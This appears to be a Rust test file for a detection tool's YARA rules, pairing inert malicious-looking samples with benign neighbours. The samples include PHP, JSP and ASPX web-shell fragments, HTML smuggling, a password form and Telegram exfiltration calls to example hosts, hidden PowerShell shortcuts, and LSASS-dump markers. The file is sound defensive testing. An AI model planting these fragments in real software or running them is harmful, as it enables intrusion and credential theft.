//! blackrod's own YARA rules: each fires on an inert, invented sample and keeps quiet on an honest
//! neighbour.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use blackrod_detect::content::Content;
use blackrod_detect::yara::{Rules, Scanner};
use blackrod_model::{EvidenceId, RuleSet};

static BUILTIN: LazyLock<(Rules, RuleSet)> =
    LazyLock::new(|| Rules::load(&[], true).expect("the built-in rules need no folder"));

/// A rule, what it must find and what it must not.
struct Case {
    rule: &'static str,
    hostile: Vec<u8>,
    honest: Vec<u8>,
}

fn case(rule: &'static str, hostile: impl Into<Vec<u8>>, honest: impl Into<Vec<u8>>) -> Case {
    Case {
        rule,
        hostile: hostile.into(),
        honest: honest.into(),
    }
}

fn cases() -> Vec<Case> {
    let mut all = web_shells();
    all.extend(pages());
    all.extend(containers());
    all.extend(documents());
    all.extend(credential_stores());
    all
}

#[test]
fn every_rule_fires_on_its_sample_and_not_on_its_neighbour() {
    let (rules, set) = &*BUILTIN;
    assert_eq!(set.refused, []);
    let mut scanner = rules.scanner();
    let mut wrong = Vec::new();
    for case in cases() {
        if !fired(&mut scanner, &case.hostile).contains(case.rule) {
            wrong.push(format!("{} does not find its sample", case.rule));
        }
        if fired(&mut scanner, &case.honest).contains(case.rule) {
            wrong.push(format!("{} fires on its honest neighbour", case.rule));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn every_rule_has_a_case_and_says_what_a_report_needs() {
    let covered: BTreeSet<&str> = cases().iter().map(|case| case.rule).collect();
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../../content/yara");
    let mut names = BTreeSet::new();
    for entry in std::fs::read_dir(folder).expect("content/yara is there") {
        let path = entry.expect("readable").path();
        let text = std::fs::read_to_string(&path).expect("UTF-8");
        for body in text.split("\nrule ").skip(1) {
            let name = body
                .split_whitespace()
                .next()
                .expect("a rule has a name")
                .to_owned();
            for key in [
                "title",
                "description",
                "severity",
                "attack",
                "author",
                "reference",
            ] {
                assert!(body.contains(&format!("{key} = \"")), "{name} has no {key}");
            }
            names.insert(name);
        }
    }
    let (rules, _) = &*BUILTIN;
    assert_eq!(
        rules.len(),
        names.len(),
        "the folder and the binary hold the same rules"
    );
    let uncovered: Vec<_> = names
        .iter()
        .filter(|name| !covered.contains(name.as_str()))
        .collect();
    assert!(uncovered.is_empty(), "without a case: {uncovered:?}");
    assert!(names.len() >= 25);
}

fn fired(scanner: &mut Scanner<'_>, bytes: &[u8]) -> BTreeSet<String> {
    let mut findings = Vec::new();
    let note = scanner.search_content(
        &Content::file(EvidenceId([1; 16]), Some("sample"), bytes),
        &mut findings,
    );
    assert_eq!(note, None);
    findings.into_iter().map(|finding| finding.rule_id).collect()
}

fn web_shells() -> Vec<Case> {
    let page = "<%@ Page Language=\"C#\" %>";
    let php_load = "A1b2C3d4".repeat(80);
    vec![
        case(
            "webshell_asp_request_to_eval",
            "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"inert\"],\"unsafe\");%>",
            format!("{page}<% var name = Request.Form[\"name\"]; evaluate(name); %>"),
        ),
        case(
            "webshell_aspx_request_starts_process",
            format!(
                "{page}<% var p = new ProcessStartInfo(); p.FileName = \"cmd.exe\"; p.Arguments = Request[\"q\"]; %>"
            ),
            format!("{page}<% Response.Write(Request[\"q\"]); %>"),
        ),
        case(
            "webshell_aspx_request_loads_assembly",
            format!(
                "{page}<% var b = Convert.FromBase64String(Request.Form[\"k\"]); \
                 System.Reflection.Assembly.Load(b).CreateInstance(\"U\"); %>"
            ),
            format!("{page}<% System.Reflection.Assembly.Load(\"Our.Library\"); %>"),
        ),
        case(
            "webshell_php_request_to_eval",
            "<?php @eval($_POST['inert']); ?>",
            "<?php $mail = trim($_POST['mail']); evaluate_form($mail); ?>",
        ),
        case(
            "webshell_php_packed_eval",
            format!("<?php eval(gzinflate(base64_decode(\"{php_load}\"))); ?>"),
            format!("<?php $logo = base64_decode(\"{php_load}\"); ?>"),
        ),
        case(
            "webshell_jsp_request_to_exec",
            "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"inert\")); %>",
            "<%@ page %><% String q = request.getParameter(\"q\"); out.print(escape(q)); %>",
        ),
        case(
            "webshell_jsp_request_defines_class",
            "<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %>\
             <% new U().g(Base64.getDecoder().decode(request.getReader().readLine())); %>",
            "<% byte[] b = Base64.getDecoder().decode(request.getParameter(\"picture\")); %>",
        ),
        case(
            "webshell_behind_image_magic",
            "GIF89a;<?php echo $_GET['inert']; ?>",
            [b"GIF89a".to_vec(), vec![0x2c; 400]].concat(),
        ),
        case(
            "exchange_virtual_directory_export_with_script",
            "Name        : OAB (Default Web Site)\r\nPollInterval : 480\r\nOfflineAddressBooks : \\Default\r\n\
             InternalUrl : https://ex01.parl.example/OAB\r\n\
             ExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">inert</script>\r\n",
            "Name        : OAB (Default Web Site)\r\nPollInterval : 480\r\nOfflineAddressBooks : \\Default\r\n\
             ExternalUrl : https://mail.parl.example/OAB\r\n",
        ),
        case(
            "exchange_mailbox_export_as_web_page",
            [b"!BDN".to_vec(), vec![0; 600], page.into()].concat(),
            [
                b"!BDN".to_vec(),
                vec![0; 600],
                b"a mail about a web page".to_vec(),
            ]
            .concat(),
        ),
        case(
            "exchange_certificate_request_as_web_page",
            [b"\x30\x82\x04\x00".to_vec(), vec![1; 40], page.into()].concat(),
            [
                b"\x30\x82\x04\x00".to_vec(),
                vec![1; 40],
                b"CN=mail.parl.example".to_vec(),
            ]
            .concat(),
        ),
    ]
}

fn pages() -> Vec<Case> {
    let long = "QUJD".repeat(700);
    let percent = "%41%42".repeat(200);
    vec![
        case(
            "html_smuggles_a_download",
            format!(
                "<html><script>var d=\"{long}\";var b=new Blob([atob(d)]);var u=URL.createObjectURL(b);\
                 a.download='minutes.zip';a.href=u;a.click()</script></html>"
            ),
            format!("<html><img src=\"data:image/png;base64,{long}\"></html>"),
        ),
        case(
            "html_data_link_to_a_container",
            "<html><a href=\"data:application/zip;base64,UEsDBBQAAAAI\" download=\"a.zip\">open</a></html>",
            "<html><a href=\"data:text/plain;base64,SGVsbG8=\">open</a></html>",
        ),
        case(
            "html_asks_for_a_password",
            "<html><form method=post action=\"https://collect.example/p\"><input type=\"password\" name=p></form></html>",
            "<html><form action=\"/search\"><input type=\"text\" name=q></form></html>",
        ),
        case(
            "html_is_written_by_script",
            format!(
                "<html><script>var s=\"{percent}\";document.write(unescape(\"{percent}\"));</script></html>"
            ),
            "<html><script>document.write(new Date().getFullYear());</script></html>",
        ),
        case(
            "html_sends_to_telegram",
            "<html><script>fetch('https://api.telegram.org/bot0:INERT/sendMessage?chat_id=1&text='+x)</script></html>",
            "<html><a href=\"https://t.me/parliament\">our channel</a></html>",
        ),
        case(
            "html_jumps_at_once",
            "<html><script>window.location.href = atob('aHR0cHM6Ly9leGFtcGxlLw==');</script></html>",
            "<html><script>window.location.href = '/start';</script></html>",
        ),
        case(
            "svg_with_script",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var t=atob('aW5lcnQ=');</script></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h9v9z\"/></svg>",
        ),
        case(
            "webmail_script_injection",
            "<div><svg><animate attributeName=x dur=1s onbegin=\"eval(atob('aW5lcnQ='))\"></svg></div>",
            "<div><svg><animate attributeName=\"x\" dur=\"1s\" from=\"0\" to=\"9\"/></svg></div>",
        ),
    ]
}

fn containers() -> Vec<Case> {
    let iso = |names: &[u8]| {
        let mut image = vec![0; 0x9000];
        image[0x8001..0x8006].copy_from_slice(b"CD001");
        image.extend_from_slice(names);
        image
    };
    let onenote = |inside: &[u8]| {
        let mut file = b"\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D".to_vec();
        file.extend(vec![0; 64]);
        file.extend(b"\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC");
        file.extend(vec![0; 20]);
        file.extend(inside);
        file
    };
    vec![
        case(
            "shortcut_starts_an_interpreter",
            shortcut("powershell.exe -w hidden -enc AAAA", 0),
            shortcut("winword.exe minutes.docx", 0),
        ),
        case(
            "shortcut_with_a_load",
            shortcut("notepad.exe", 20_000),
            shortcut("notepad.exe", 0),
        ),
        case(
            "disc_image_with_a_launcher",
            iso(b"AGENDA.LNK;1 \x00 UPDATE.DLL;1"),
            iso(b"HOLIDAY1.JPG;1 \x00 HOLIDAY2.JPG;1"),
        ),
        case("disc_image_as_attachment", iso(b"x"), vec![0; 0x9000]),
        case(
            "onenote_with_a_program",
            onenote(b"MZ inert"),
            onenote(b"\x89PNG picture"),
        ),
        case(
            "hta_with_shell",
            "<html><HTA:APPLICATION><script language=\"VBScript\">Set s = CreateObject(\"WScript.Shell\")</script>",
            "<html><script language=\"VBScript\">MsgBox \"hello\"</script>",
        ),
        case(
            "script_downloads_and_runs",
            "var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); var s = new ActiveXObject(\"WScript.Shell\");",
            "var x = new ActiveXObject(\"Scripting.Dictionary\");",
        ),
        case(
            "zip_with_disguised_program",
            zip("minutes.pdf.exe", false),
            zip("minutes.pdf", false),
        ),
        case(
            "zip_with_script_or_shortcut",
            zip("agenda.lnk", false),
            zip("agenda.docx", false),
        ),
        case(
            "archive_with_password",
            zip("agenda.docx", true),
            zip("agenda.docx", false),
        ),
        case(
            "remote_desktop_file_that_shares_drives",
            "full address:s:files.collect.example\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\n",
            "full address:s:10.1.2.3\r\ndrivestoredirect:s:*\r\n",
        ),
        case(
            "internet_shortcut_to_a_share",
            "[InternetShortcut]\r\nURL=file://203.0.113.9/share/agenda.vbs\r\n",
            "[InternetShortcut]\r\nURL=https://intranet.parl.example/\r\n",
        ),
        case(
            "search_connector_to_a_share",
            "<libraryDescription><searchConnectorDescription><url>https://203.0.113.9/dav</url>",
            "<libraryDescription><simpleLocation><url>knownfolder:{FDD39AD0}</url>",
        ),
        case(
            "management_console_file_with_script",
            "<?xml version=\"1.0\"?><MMC_ConsoleFile><String>res://apds.dll/redirect.html</String></MMC_ConsoleFile>",
            "<?xml version=\"1.0\"?><MMC_ConsoleFile><String>Services</String></MMC_ConsoleFile>",
        ),
        case("excel_add_in_library", library("xlAutoOpen"), library("Compute")),
    ]
}

fn documents() -> Vec<Case> {
    let relations = |more: &str| {
        format!(
            "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
             <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{more}/></Relationships>"
        )
    };
    let ole = |inside: &[u8]| {
        [
            b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec(),
            vec![0; 504],
            inside.to_vec(),
        ]
        .concat()
    };
    let outlook_item = |sound: &str| {
        let mut inside = wide("IPM.Appointment");
        inside.extend(b"\x08\x20\x06\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46\x1F\x85\x00\x00");
        inside.extend(wide(sound));
        ole(&inside)
    };
    vec![
        case(
            "office_fetches_template",
            relations("attachedTemplate\" Target=\"https://collect.example/t.dotm\" TargetMode=\"External\""),
            relations("attachedTemplate\" Target=\"file.dotx\""),
        ),
        case(
            "office_macro_starts_itself_and_a_program",
            ole(b"_VBA_PROJECT Attribut\x00e VB_Name Document_Open WScript.Shell"),
            ole(b"_VBA_PROJECT Attribut\x00e VB_Name FormatTable"),
        ),
        case(
            "rtf_with_live_object",
            "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105000002000000094f4c45324c696e6b00}}}",
            "{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000f0000005061696e742e50696374757265}}}",
        ),
        case(
            "rtf_fetches_template",
            "{\\rtf1{\\*\\template https://collect.example/t}}",
            "{\\rtf1{\\*\\template C:\\\\Templates\\\\letter.dot}}",
        ),
        case(
            "pdf_runs_script_on_opening",
            "%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL\\('https://collect.example'\\))>>>>",
            "%PDF-1.7 1 0 obj<</OpenAction[3 0 R/FitH null]/JavaScript 4 0 R>>",
        ),
        case(
            "pdf_launches_program",
            "%PDF-1.7 1 0 obj<</Type/Action/S/Launch/Win<</F(cmd.exe)/P(inert)>>>>",
            "%PDF-1.7 1 0 obj<</Type/Action/S/URI/URI(https://parl.example)>>",
        ),
        case(
            "pdf_with_embedded_program",
            "%PDF-1.7 1 0 obj<</Type/Filespec/F(agenda.iso)/EF<</F 2 0 R>>>> 2 0 obj<</Type/EmbeddedFile>>",
            "%PDF-1.7 1 0 obj<</Type/Filespec/F(invoice.xml)/EF<</F 2 0 R>>>> 2 0 obj<</Type/EmbeddedFile>>",
        ),
        case(
            "calendar_entry_that_leads_elsewhere",
            "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:TVqQAAMAAAAE\r\nEND:VEVENT",
            "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nLOCATION:Room 4\r\nURL:https://parl.example/m\r\nEND:VEVENT",
        ),
        case(
            "outlook_item_with_reminder_on_a_share",
            outlook_item("\\\\203.0.113.9\\s\\a.wav"),
            outlook_item("reminder.wav"),
        ),
    ]
}

fn credential_stores() -> Vec<Case> {
    let dump = |modules: &[&str]| {
        let mut file = b"MDMP\x93\xa7".to_vec();
        modules.iter().for_each(|module| file.extend(wide(module)));
        file
    };
    let database = |names: &[u8]| {
        [
            b"\x00\x00\x00\x00\xEF\xCD\xAB\x89".to_vec(),
            vec![0; 100],
            names.to_vec(),
        ]
        .concat()
    };
    vec![
        case(
            "memory_of_the_password_process",
            dump(&["C:\\Windows\\System32\\lsass.exe", "lsasrv.dll", "wdigest.dll"]),
            dump(&["C:\\Windows\\System32\\winword.exe", "kerberos.dll"]),
        ),
        case(
            "copy_of_the_directory_database",
            database(b"datatable link_table ATTk589914"),
            database(b"datatable SystemIndex"),
        ),
        case(
            "copy_of_the_account_hive",
            [
                b"regf".to_vec(),
                vec![0; 60],
                b"SAM\x00 Domains Builtin 000001F4".to_vec(),
            ]
            .concat(),
            [b"regf".to_vec(), vec![0; 60], b"Software Classes".to_vec()].concat(),
        ),
    ]
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A Windows shortcut (MS-SHLLINK) with command-line arguments and `load` bytes behind its end.
fn shortcut(command: &str, load: usize) -> Vec<u8> {
    const HAS_ARGUMENTS_UNICODE: u32 = 0x20 | 0x80;
    let mut file = 0x4c_u32.to_le_bytes().to_vec();
    file.extend([1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]);
    file.extend(HAS_ARGUMENTS_UNICODE.to_le_bytes());
    file.resize(0x4c, 0);
    file.extend((command.encode_utf16().count() as u16).to_le_bytes());
    file.extend(wide(command));
    file.extend([0; 4]);
    file.extend(vec![0x41; load]);
    file
}

/// A ZIP archive (APPNOTE 6.3) with one stored member.
fn zip(name: &str, is_encrypted: bool) -> Vec<u8> {
    let content = b"inert";
    let flags = u16::from(is_encrypted);
    let checksum = 0_u32;
    let common = |out: &mut Vec<u8>| {
        out.extend(flags.to_le_bytes());
        out.extend([0; 2 + 2 + 2]);
        out.extend(checksum.to_le_bytes());
        out.extend((content.len() as u32).to_le_bytes());
        out.extend((content.len() as u32).to_le_bytes());
        out.extend((name.len() as u16).to_le_bytes());
        out.extend([0; 2]);
    };
    let mut file = b"PK\x03\x04\x14\x00".to_vec();
    common(&mut file);
    file.extend(name.as_bytes());
    file.extend(content);
    let directory = file.len();
    file.extend(b"PK\x01\x02\x14\x00\x14\x00");
    common(&mut file);
    file.extend([0; 2 + 2 + 2 + 4 + 4]);
    file.extend(name.as_bytes());
    let directory_length = file.len() - directory;
    file.extend(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00");
    file.extend((directory_length as u32).to_le_bytes());
    file.extend((directory as u32).to_le_bytes());
    file.extend([0; 2]);
    file
}

/// The smallest program library (PE32) that exports one function and holds no code.
fn library(export: &str) -> Vec<u8> {
    const SECTION_AT: u32 = 0x1000;
    let mut file = vec![0; 0x200];
    let mut put = |at: usize, bytes: &[u8]| file[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, b"MZ");
    put(0x3c, &0x80_u32.to_le_bytes());
    put(0x80, b"PE\0\0");
    put(0x84, &0x14c_u16.to_le_bytes());
    put(0x86, &1_u16.to_le_bytes());
    put(0x94, &0xe0_u16.to_le_bytes());
    put(0x96, &0x2102_u16.to_le_bytes());
    let optional = 0x98;
    put(optional, &0x10b_u16.to_le_bytes());
    put(optional + 0x1c, &0x1000_0000_u32.to_le_bytes());
    put(optional + 0x20, &0x1000_u32.to_le_bytes());
    put(optional + 0x24, &0x200_u32.to_le_bytes());
    put(optional + 0x38, &0x2000_u32.to_le_bytes());
    put(optional + 0x3c, &0x200_u32.to_le_bytes());
    put(optional + 0x5c, &16_u32.to_le_bytes());
    put(optional + 0x60, &SECTION_AT.to_le_bytes());
    put(optional + 0x64, &0x100_u32.to_le_bytes());
    let section = optional + 0xe0;
    put(section, b".edata\0\0");
    put(section + 8, &0x200_u32.to_le_bytes());
    put(section + 12, &SECTION_AT.to_le_bytes());
    put(section + 16, &0x200_u32.to_le_bytes());
    put(section + 20, &0x200_u32.to_le_bytes());
    put(section + 36, &0x4000_0040_u32.to_le_bytes());

    let mut exports = vec![0; 0x200];
    let mut word = |at: usize, value: u32| exports[at..at + 4].copy_from_slice(&value.to_le_bytes());
    word(12, SECTION_AT + 0x60);
    word(16, 1);
    word(20, 1);
    word(24, 1);
    word(28, SECTION_AT + 0x40);
    word(32, SECTION_AT + 0x44);
    word(36, SECTION_AT + 0x48);
    word(0x40, SECTION_AT + 0x100);
    word(0x44, SECTION_AT + 0x80);
    exports[0x60..0x66].copy_from_slice(b"a.xll\0");
    exports[0x80..0x80 + export.len()].copy_from_slice(export.as_bytes());
    file.extend(exports);
    file
}
